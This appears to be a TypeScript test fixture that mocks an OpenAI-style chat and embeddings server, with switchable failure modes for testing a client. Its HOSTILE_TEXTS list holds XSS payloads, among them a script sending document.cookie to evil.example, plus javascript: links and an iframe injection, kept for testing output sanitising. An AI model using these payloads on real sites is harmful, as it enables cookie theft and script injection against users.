import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** Settings that the look-alike and the server under test share. */
export const MODEL_NAMES = {
  apiKey: 'a-key-of-the-look-alike',
  model: 'look-alike-1',
  embeddingModel: 'look-alike-embedding-1',
} as const;

/** A request for an answer, as received. */
export interface ChatAsked {
  readonly model: string;
  readonly messages: readonly { readonly role: string; readonly content: string }[];
  readonly stream?: boolean;
  readonly max_tokens?: number;
  readonly max_completion_tokens?: number;
  readonly stream_options?: { readonly include_usage?: boolean };
  readonly response_format?: { readonly json_schema?: { readonly name: string; readonly schema: object } };
}

/** The last message of a request, by which scripts choose their answer. */
export const lastMessageIn = ({ messages }: ChatAsked): string => messages.at(-1)?.content ?? '';

/** The name of the requested JSON schema; null for a request for text. */
export const formIn = ({ response_format: form }: ChatAsked): string | null =>
  form?.json_schema?.name ?? null;

/**
 * How the server behaves. `good`: sends the answer of the script. `slow`: never answers. `dripping`: begins the answer
 * and never ends it. `broken-off`: closes the connection in the middle of the answer. `cut`: ends it in the middle, for
 * want of tokens. `unfinished`: ends it in the middle without a finish reason. `declining`: sends a refusal. `endless`:
 * does not stop. The others fail as they are named.
 */
export type ModelMood =
  | 'good'
  | 'slow'
  | 'dripping'
  | 'broken-off'
  | 'cut'
  | 'unfinished'
  | 'declining'
  | 'endless'
  | 'down'
  | '500'
  | '429'
  | '401'
  | 'html'
  | 'empty'
  | 'bad-json'
  | 'bad-stream';

/** Attacks that a hostile model could write into any text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<img src=x onerror="alert(1)">',
  '![read me](https://evil.example/pixel.png?user=me)',
  '[the solution](javascript:alert(document.domain))',
  '<a href="javascript:alert(1)">the solution</a>',
  '[the solution](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '</p><iframe src="https://evil.example"></iframe>',
];

export interface ModelLookAlike {
  /** The value of AI_BASE_URL, with the version of the interface. */
  readonly url: string;
  /** The received requests for answers, in order. */
  readonly asked: ChatAsked[];
  /** The texts of the received requests for embeddings. */
  readonly embedded: string[];
  mood: ModelMood;
  /** For how many requests the mood applies; then it is `good` again. */
  moodLasts: number;
  /** The model's answer to a request, including thoughts and code fences. */
  script: (asked: ChatAsked) => string;
  /** Whether answers have token counts: always, when requested, or never. */
  counts: 'always' | 'asked' | 'never';
  /** Members of requests that it refuses as unknown. */
  unknown: readonly string[];
  /** The length of the pieces of a stream, characters. */
  pieceLength: number;
  /** The number of connections that a client closed before its answer was complete. */
  readonly givenUp: () => number;
  readonly close: () => Promise<void>;
}

/** The number of tokens by this provider's count: four characters each. */
export const countTokens = (text: string): number => Math.ceil(text.length / 4);

const usageOf = ({ messages }: ChatAsked, text: string) => {
  const prompt = messages.reduce((sum, { content }) => sum + countTokens(content), 0);
  const completion = countTokens(text);
  return { prompt_tokens: prompt, completion_tokens: completion, total_tokens: prompt + completion };
};

const DIMENSIONS = 256;

function hashOf(word: string): number {
  let hash = 2_166_136_261;
  for (const character of word) hash = Math.imul(hash ^ (character.codePointAt(0) ?? 0), 16_777_619) >>> 0;
  return hash;
}

/** A vector that counts the words of a text, so that texts with common words are near each other. Not of length 1. */
export function vectorOf(text: string): number[] {
  const vector = Array.from({ length: DIMENSIONS }, () => 0);
  const words = text.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? ['nothing'];
  for (const word of words) {
    const place = hashOf(word) % DIMENSIONS;
    vector[place] = (vector[place] ?? 0) + 1;
  }
  return vector;
}

type Json = Readonly<Record<string, unknown>>;

const answerJson = (response: ServerResponse, status: number, json: object, headers: object = {}) =>
  void response
    .writeHead(status, { 'content-type': 'application/json', ...headers })
    .end(JSON.stringify(json));

const refuse = (response: ServerResponse, status: number, message: string, headers: object = {}) =>
  answerJson(response, status, { error: { message, type: 'invalid_request_error' } }, headers);

const writeEvent = (response: ServerResponse, data: object | '[DONE]') =>
  response.write(`data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`);

/** OpenAI's HTTP interface, by its documentation and the local servers that implement it, on a port of this machine. */
export async function serveLanguageModel(
  script: ModelLookAlike['script'] = () => 'A good answer.',
): Promise<ModelLookAlike> {
  let givenUp = 0;
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    response.on('close', () => (givenUp += response.writableFinished ? 0 : 1));
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const text = Buffer.concat(chunks).toString('utf8');
      const body = (text === '' ? {} : JSON.parse(text)) as Json;
      void answer(
        lookAlike,
        { path: request.url ?? '/', key: request.headers.authorization ?? '', body },
        response,
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const lookAlike: ModelLookAlike = {
    url: `http://127.0.0.1:${port}/v1`,
    asked: [],
    embedded: [],
    mood: 'good',
    moodLasts: Number.POSITIVE_INFINITY,
    script,
    counts: 'asked',
    unknown: [],
    pieceLength: 12,
    givenUp: () => givenUp,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
  return lookAlike;
}

interface Arrived {
  readonly path: string;
  readonly key: string;
  readonly body: Json;
}

async function answer(books: ModelLookAlike, { path, key, body }: Arrived, response: ServerResponse) {
  const mood = nextMood(books);
  if (path === '/v1/chat/completions') books.asked.push(body as unknown as ChatAsked);
  if (isAnsweredByFault(mood, response)) return;
  if (key !== `Bearer ${MODEL_NAMES.apiKey}`) return refuse(response, 401, 'Incorrect API key provided.');
  const strange = books.unknown.find((name) => name in body);
  if (strange !== undefined) return refuse(response, 400, `Unsupported parameter: '${strange}'`);
  if (path === '/v1/models') return answerJson(response, 200, modelList());
  if (path === '/v1/embeddings') return answerEmbeddings(books, body, response);
  if (path !== '/v1/chat/completions') return refuse(response, 404, `Unknown request URL: ${path}`);
  const asked = body as unknown as ChatAsked;
  if (asked.model !== MODEL_NAMES.model)
    return refuse(response, 404, `The model ${asked.model} does not exist`);
  if (asked.stream === true) await stream(books, asked, mood, response);
  else answerWhole(books, asked, response);
}

function nextMood(books: ModelLookAlike): ModelMood {
  if (books.moodLasts <= 0) return 'good';
  books.moodLasts -= 1;
  return books.mood;
}

/** @returns whether the mood decides the answer, so that no other is sent. */
function isAnsweredByFault(mood: ModelMood, response: ServerResponse): boolean {
  if (mood === 'slow') return true;
  if (mood === 'down') response.socket?.destroy();
  else if (mood === '500') refuse(response, 500, 'The server had an error.');
  else if (mood === '429') refuse(response, 429, 'Rate limit reached.');
  else if (mood === '401') refuse(response, 401, 'Incorrect API key provided.');
  else if (mood === 'html') response.writeHead(200, { 'content-type': 'text/html' }).end(HTML);
  else if (mood === 'empty') response.writeHead(200, { 'content-type': 'text/event-stream' }).end();
  else if (mood === 'bad-json')
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"choices": [');
  else return false;
  return true;
}

const HTML = '<!doctype html><title>502 Bad Gateway</title><h1>Bad Gateway</h1>';

const modelList = () => ({
  object: 'list',
  data: [MODEL_NAMES.model, MODEL_NAMES.embeddingModel].map((id) => ({
    id,
    object: 'model',
    owned_by: 'look-alike',
  })),
});

function answerEmbeddings(books: ModelLookAlike, { input, model }: Json, response: ServerResponse): void {
  if (model !== MODEL_NAMES.embeddingModel)
    return refuse(response, 404, `The model ${String(model)} does not exist`);
  const texts = (Array.isArray(input) ? input : [input]).map(String);
  books.embedded.push(...texts);
  const data = texts.map((text, index) => ({ object: 'embedding', index, embedding: vectorOf(text) }));
  const tokens = texts.reduce((sum, text) => sum + countTokens(text), 0);
  const usage = { prompt_tokens: tokens, total_tokens: tokens };
  // Reversed, because providers guarantee no order.
  answerJson(response, 200, { object: 'list', model, data: data.reverse(), usage });
}

function answerWhole(books: ModelLookAlike, asked: ChatAsked, response: ServerResponse): void {
  const content = books.script(asked);
  answerJson(response, 200, {
    id: 'chatcmpl-1',
    object: 'chat.completion',
    model: asked.model,
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
    usage: usageOf(asked, content),
  });
}

const chunk = (delta: object, finish: string | null = null) => ({
  id: 'chatcmpl-1',
  object: 'chat.completion.chunk',
  model: MODEL_NAMES.model,
  choices: [{ index: 0, delta, finish_reason: finish }],
});

async function stream(books: ModelLookAlike, asked: ChatAsked, mood: ModelMood, response: ServerResponse) {
  const text = books.script(asked);
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  if (mood === 'bad-stream') return void response.end('data: {"choices": [{"del\n\n');
  if (mood === 'declining')
    writeEvent(response, chunk({ role: 'assistant', refusal: 'I cannot help with that.' }));
  if (mood === 'endless') return writeEndlessly(response);
  const half = mood === 'good' || mood === 'declining' ? text : text.slice(0, Math.ceil(text.length / 2));
  for (let at = 0; at < half.length; at += books.pieceLength)
    writeEvent(response, chunk({ content: half.slice(at, at + books.pieceLength) }));
  if (mood === 'dripping') return;
  // The chunks so far are sent before the next turn of the event loop.
  if (mood === 'broken-off') return void setImmediate(() => response.socket?.destroy());
  if (mood !== 'unfinished') writeEvent(response, chunk({}, mood === 'cut' ? 'length' : 'stop'));
  if (isCounted(books, asked))
    writeEvent(response, { ...chunk({}), choices: [], usage: usageOf(asked, half) });
  writeEvent(response, '[DONE]');
  response.end();
}

const isCounted = ({ counts }: ModelLookAlike, { stream_options: options }: ChatAsked) =>
  counts === 'always' || (counts === 'asked' && options?.include_usage === true);

/** Writes until the client closes the connection. */
async function writeEndlessly(response: ServerResponse): Promise<void> {
  while (!response.closed) {
    writeEvent(response, chunk({ content: 'and so on '.repeat(100) }));
    await delay(1);
  }
}

/** The environment that makes a server process use the look-alike. */
export const modelEnvironment = (url: string) => ({
  AI_BASE_URL: url,
  AI_API_KEY: MODEL_NAMES.apiKey,
  AI_MODEL: MODEL_NAMES.model,
  AI_EMBEDDING_MODEL: MODEL_NAMES.embeddingModel,
});
